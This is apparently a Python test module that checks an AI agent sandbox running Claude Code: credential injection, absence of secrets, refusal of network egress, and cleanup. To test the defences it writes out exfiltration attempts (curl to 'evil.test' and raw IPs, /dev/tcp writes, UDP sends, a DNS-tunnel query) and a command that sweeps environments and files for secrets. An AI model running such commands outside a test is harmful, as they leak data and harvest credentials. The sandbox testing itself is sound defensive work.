"""The checks that tools/demo prints and that tests/agents runs: one living bottle with the real Claude Code.

The agent mends the repository, then waits at a gate inside its last tool call, so that everything else is
looked at while it is alive. Each check is a method of Showcase; it raises AssertionError with a sentence.
"""

import json
import os
import re
import shutil
import subprocess
import tempfile
import threading
import time

import scenarios
from rig import memory
from rig.bottle import Home
from rig.core import forms
from rig.machines import Machines, Store

TOKEN = "BOT_BOTTLE_CLAUDE_OAUTH_TOKEN"
AGENT_SECONDS = 180
LAUNCH_SECONDS = 150  # an image may have to be packed for smolvm first
END_SECONDS = 2  # what a bottle may take to end
GUEST_WORKSPACE = "/home/node/workspace"
QUIET = ("api.anthropic.com", "allowed.test")
BOTTLE = f"""
agent_provider:
  template: claude
  auth_token: {TOKEN}
egress:
  routes:
    - host: allowed.test
      auth: {{ scheme: Bearer, token_ref: DEMO_TOKEN }}
resources:
  memory: 1G
"""


class Showcase:
    def __init__(self, rig, backend, say=lambda text: None, smolvm=None):
        """smolvm: the version that the stand-in is, for the backend smolmachines."""
        self.rig, self.backend, self.say, self.smolvm = rig, backend, say, smolvm
        self.secrets = {"claude": rig.secret("claude"), "demo": rig.secret("demo")}
        self.canary = f"canary-{os.urandom(12).hex()}"
        self.canary_pids = []

    # -- the bottle

    def __enter__(self):
        env = {TOKEN: self.secrets["claude"], "DEMO_TOKEN": self.secrets["demo"]}
        self.store = Store(is_real=True) if self.smolvm else None
        self.home = Machines(self.smolvm, self.store, env=env) if self.smolvm else Home(**env)
        self.home.bottle("demo", BOTTLE)
        self.home.agent("mender", "demo", "You mend small programs.\n")
        self.workspace = os.path.join(self.home.top, "tally")
        shutil.copytree(scenarios.REPO, self.workspace)
        self.rig.model.add("repair", scenarios.repair(GUEST_WORKSPACE, gate=True))
        self.bottle = self.home.start("mender", self.backend, label="showcase", args=[f"--cwd={self.workspace}"],
                                      prompt="The test of this repository fails. Mend it. [scenario:repair]")
        return self

    def __exit__(self, *_):
        self.bottle.stop()
        self.home.__exit__()
        if self.store:
            self.store.close()

    def launch(self):
        """Returns when the agent has done its work and stands at the gate."""
        self.say(f"waiting for the bottle ({self.backend})")
        self.bottle.wait_ready(LAUNCH_SECONDS)
        step = -1
        names = {0: "the agent's first question to the model (it starts cold)", 1: "the failing test", 2: "the agent to read",
                 3: "the edit", 4: "the test to turn green"}
        for want in range(5):
            self.say(f"waiting for {names[want]}")
            event = self._next_step(step)
            step = event["step"]

    def _next_step(self, after):
        """The model's next turn; ends at once when the bottle does."""
        stop = threading.Event()

        def watch():
            while not stop.wait(0.5):
                if self.bottle.process.poll() is not None:
                    self.rig.events.add("model", scenario="repair", step=99, note="(the bottle ended)")
                    return
        watcher = threading.Thread(target=watch, daemon=True)
        watcher.start()
        try:
            event = self.rig.events.wait("model", seconds=AGENT_SECONDS, where=lambda e: (e["step"] or 0) > after
                                         or e["note"].startswith("SCENARIO FAILED"))
        except AssertionError as e:
            raise AssertionError(f"{str(e)[:3000]}\nthe bottle says:\n{self.bottle.output()}\nits audit ends:\n"
                                 + "\n".join(map(str, self.bottle.audit()[-10:]))) from None
        finally:
            stop.set()
        if event["step"] == 99 or event["note"].startswith("SCENARIO FAILED"):
            raise AssertionError(f"{event['note']}\n{self.bottle.output()}")
        return event

    # -- what is shown

    def the_agent_mended_the_repository(self):
        with tempfile.TemporaryDirectory() as out:
            target = os.path.join(out, "tally.py")
            self.home.run("cp", f"{self.bottle.id}:{GUEST_WORKSPACE}/tally.py", target)
            with open(target, encoding="utf-8") as f:
                assert f.read() == scenarios.expected(), "the file that came out is not the mended one"
        with open(os.path.join(self.workspace, "tally.py"), encoding="utf-8") as f:
            assert scenarios.WRONG in f.read(), "the host's own copy was changed"

    def an_allowed_host_answers_with_the_injected_credential(self):
        mark = self.rig.events.mark()
        done = self.bottle.exec("curl", "-sS", "-m", "20", "https://allowed.test/hello")
        assert done.returncode == 0, f"curl: exit {done.returncode}: {done.stderr}"
        sent = [v for k, v in json.loads(done.stdout)["headers"] if k.lower() == "authorization"]
        assert sent == ["Bearer <secret demo>"], f"the host saw {sent}"
        event = self.rig.events.all("http", since=mark)[0]
        assert self.secrets["demo"].encode() in event["head"], "the real credential did not arrive"
        asked = self.rig.events.all("http", host="api.anthropic.com", method="POST")
        assert asked and all(self.secrets["claude"].encode() in e["head"] for e in asked), \
            "the model was asked without the real credential"

    def the_environment_holds_no_secret(self):
        done = self.bottle.exec("sh", "-c", "env; for p in /proc/[0-9]*; do cat $p/environ $p/cmdline; done 2>/dev/null;"
                                " find /home /run /tmp /etc -xdev -type f -size -1000k -exec cat {} + 2>/dev/null",
                                text=False)
        assert b"HTTPS_PROXY" in done.stdout, "the environment could not be read"
        for name, secret in self.secrets.items():
            found = [form for form, pattern in forms(secret).items() if pattern in done.stdout]
            assert not found, f"the real secret '{name}' is in the guest's environment or files ({found})"

    def plant_canary(self):
        """In a file of memory and in the environment of a process of the guest."""
        self.bottle.sh(f"printf %s {self.canary} >/dev/shm/canary; CANARY={self.canary} setsid sleep 100000 >/dev/null "
                       "2>&1 </dev/null &", check=True)

    def memory_holds_no_secret_but_the_canary(self):
        self.plant_canary()
        patterns = {f"canary {k}": v for k, v in forms(self.canary).items() if k == "raw"}
        for name, secret in self.secrets.items():
            patterns.update({f"{name} {k}": v for k, v in forms(secret).items()})
        pids = memory.guest_processes(self.backend)
        assert pids, "no process of the guest is to be found"
        found, total = set(), 0
        for pid in pids:
            try:
                more, n = memory.search(pid, patterns)
            except FileNotFoundError:
                continue  # ended meanwhile
            except ProcessLookupError:
                continue
            found |= more
            total += n
        assert "canary raw" in found, f"the canary was not found in {total >> 20} MiB of {len(pids)} processes"
        assert found == {"canary raw"}, f"found in the guest's memory: {sorted(found)}"
        return f"{total >> 20} MiB searched"

    def _refused(self, script, what):
        """Runs the attack and demands that the rig saw nothing of it. Returns what the guest was told."""
        mark = self.rig.events.mark()
        done = self.bottle.sh(script, timeout=60)
        seen = self.rig.silence(mark, allowed=QUIET)
        assert not seen, f"{what} reached the rig: {seen}"
        return done

    def a_host_that_is_not_allowed_is_refused(self):
        done = self._refused(f"curl -sS -m 20 -w '\\n%{{http_code}}' 'https://evil.test/?d={self.canary}'", "a host")
        assert done.stdout.rstrip().endswith("403") and "evil.test" in done.stdout, \
            f"no readable refusal: {done.stdout}{done.stderr}"

    def a_raw_address_is_refused(self):
        done = self._refused(f"curl -sSk -m 20 -w '\\n%{{http_code}}' 'https://45.90.7.1/?d={self.canary}'; "
                             f"curl -sSk -m 20 -o /dev/null -w '%{{http_code}}' 'https://[2a0e:b0b::1]/?d={self.canary}'",
                             "a raw address")
        codes = re.findall(r"^(\d{3})", done.stdout, re.M)
        assert codes and set(codes) <= {"403", "000"}, f"{done.stdout}{done.stderr}"

    def an_unlisted_port_is_refused(self):
        done = self._refused(f"curl -sSk -m 20 --noproxy '*' https://allowed.test:8443/{self.canary}; echo $?; "
                             f"curl -sSk -m 20 -o /dev/null -w '%{{http_code}}\\n' https://allowed.test:8443/{self.canary};"
                             f" (printf {self.canary} >/dev/tcp/allowed.test/22) 2>/dev/null; echo over", "an unlisted port")
        assert "\nover" in done.stdout and "200" not in done.stdout, f"{done.stdout}{done.stderr}"

    def udp_is_refused(self):
        script = (f"python3 - <<'E'\nimport socket\nfor a, p in (('9.9.9.9', 443), ('45.90.7.1', 9999), ('8.8.8.8', 123)):\n"
                  f"    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\n    s.settimeout(1)\n    try:\n"
                  f"        s.sendto(b'{self.canary}', (a, p))\n        s.recv(100)\n        print('answered')\n"
                  f"    except OSError as e:\n        print('refused', e)\nE")
        done = self._refused(script, "UDP")
        assert done.stdout.count("refused") == 3, f"{done.stdout}{done.stderr}"

    def a_dns_name_does_not_leave(self):
        script = ("python3 - <<'E'\nimport socket\ntry:\n"
                  f"    print(socket.getaddrinfo('{self.canary}.evil.test', 443)[0][4])\nexcept OSError as e:\n    print(e)\n"
                  "s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\ns.settimeout(2)\ntry:\n"
                  f"    s.sendto(b'\\0\\1\\1\\0\\0\\1\\0\\0\\0\\0\\0\\0' + bytes([{len(self.canary)}]) + b'{self.canary}\\4evil\\4test\\0\\0\\20\\0\\1', "
                  "('8.8.8.8', 53))\n    s.recv(500)\nexcept OSError:\n    pass\nprint('over')\nE")
        done = self._refused(script, "a DNS query")
        assert "over" in done.stdout, f"{done.stdout}{done.stderr}"

    def the_stream_is_the_only_device(self):
        done = self.bottle.sh("cat /proc/net/dev | tail -n +3 | cut -d: -f1; echo --; ls /dev; echo --; "
                              "ls /sys/bus/virtio/drivers/*/ 2>/dev/null | grep -v '^$' ; echo --; "
                              "cat /sys/class/virtio-ports/*/name 2>/dev/null; echo --; cat /proc/mounts", check=True)
        net, dev, virtio, ports, mounts = (part.split("\n") for part in done.stdout.split("--\n"))
        assert [n.strip() for n in net if n.strip()] == ["lo"], f"network devices: {net}"
        bad = re.findall(r"\S*(?:9p|virtiofs|nfs|cifs|fuse\.\S+)\S*", "\n".join(mounts))
        assert not bad, f"shared file systems: {bad}"
        if self.backend == "microvm":
            assert [p for p in ports if p] == ["bot-bottle.0"], f"virtio ports: {ports}"
            self._qemu_devices()
        else:
            have = {d for d in dev if d} - {"pts", "shm", "fd", "stdin", "stdout", "stderr", "ptmx", "mqueue", "core"}
            allowed = {"null", "zero", "full", "random", "urandom", "tty", "console"}
            assert have <= allowed, f"devices: {sorted(have)}"

    def _qemu_devices(self):
        """What the machine was given, from the only list that counts: QEMU's own command line."""
        lines = []
        for pid in memory.guest_processes("microvm"):
            with open(f"/proc/{pid}/cmdline", "rb") as f:
                lines.append(f.read().decode().split("\0"))
        argv = next(a for a in lines if len(a) > 1)
        devices = [argv[i + 1].split(",")[0] for i, a in enumerate(argv) if a == "-device"]
        kinds = {re.sub(r"-(device|pci)$", "", d) for d in devices}
        assert kinds <= {"virtio-blk", "virtio-serial", "virtserialport", "virtio-rng"}, f"devices: {devices}"
        assert devices.count("virtserialport") == 1, f"ports: {devices}"
        assert "-nodefaults" in argv and not {"-netdev", "-nic", "-net", "-virtfs", "-fsdev"} & set(argv), f"{argv}"

    def open_the_gate(self):
        """The agent's last tool call returns; it says its farewell and the bottle ends with exit code 0."""
        self.say("waiting for the agent's farewell")
        self.bottle.identity()  # asked for while the label still names it
        self.bottle.sh(f"touch {scenarios.GATE}", check=True)
        code = self.bottle.wait_end(120)
        output = self.bottle.output()
        assert code == 0, f"the bottle ended with {code}:\n{output}"
        assert scenarios.FAREWELL in output, f"no farewell in:\n{output}"

    def the_workspace_was_kept(self):
        with tempfile.TemporaryDirectory() as out:
            self.home.run("cp", f"{self.bottle.identity()}:{GUEST_WORKSPACE}", os.path.join(out, "tally"))
            found = [os.path.join(d, "tally.py") for d, _, names in os.walk(out) if "tally.py" in names]
            assert found, f"no tally.py in what was kept: {list(os.walk(out))}"
            with open(found[0], encoding="utf-8") as f:
                assert f.read() == scenarios.expected(), "what was kept is not the mended file"

    def nothing_is_left(self):
        """No secret in anything the bottle wrote on the host, and no process of it."""
        for name, secret in self.secrets.items():
            done = subprocess.run(["grep", "-rlaF", secret, self.home.top], capture_output=True, text=True, check=False)
            assert not done.stdout, f"the real secret '{name}' stands in {done.stdout}"
        alive = [e for e in self.home.list() if e["state"] not in ("ended", "lost")]
        assert not alive, f"still alive: {alive}"
        left = self.home.left() if self.smolvm else []
        assert not left, f"smolvm still has {left}"
        deadline = time.monotonic() + END_SECONDS
        while self._parts() and time.monotonic() < deadline:
            time.sleep(0.05)
        assert not self._parts(), f"still running: {self._parts()}"

    @staticmethod
    def _parts():
        table = memory.processes()
        return [table[p][1] for p in memory.descendants(os.getpid(), table)
                if table[p][1].startswith(("bot-bottle", "qemu-system", "bottle-init", ".bottle-init", "libkrun"))]


# What the demo prints, in this order: (line, method).
CHECKS = (
    ("the real Claude Code mended the repository; the changed file came out and is right",
     "the_agent_mended_the_repository"),
    ("an allowed host answers, and got the credential that the guest never had",
     "an_allowed_host_answers_with_the_injected_credential"),
    ("environment, files and command lines of the guest hold no secret (raw, base64, hex)",
     "the_environment_holds_no_secret"),
    ("the guest's memory holds no secret (raw, base64, hex); a planted canary is found by the same search",
     "memory_holds_no_secret_but_the_canary"),
    ("a host that is not allowed is refused with a reason, and the rig saw nothing",
     "a_host_that_is_not_allowed_is_refused"),
    ("a raw address is refused, and the rig saw nothing", "a_raw_address_is_refused"),
    ("an unlisted port is refused, and the rig saw nothing", "an_unlisted_port_is_refused"),
    ("UDP is refused, and the rig saw nothing", "udp_is_refused"),
    ("a DNS name does not leave, and the rig saw nothing", "a_dns_name_does_not_leave"),
    ("the stream is the only device", "the_stream_is_the_only_device"),
    ("the agent says its farewell and the bottle ends with exit code 0", "open_the_gate"),
    ("the workspace was kept and can be fetched after the end", "the_workspace_was_kept"),
    ("nothing of the bottle is left: no process, no secret in any file", "nothing_is_left"),
)
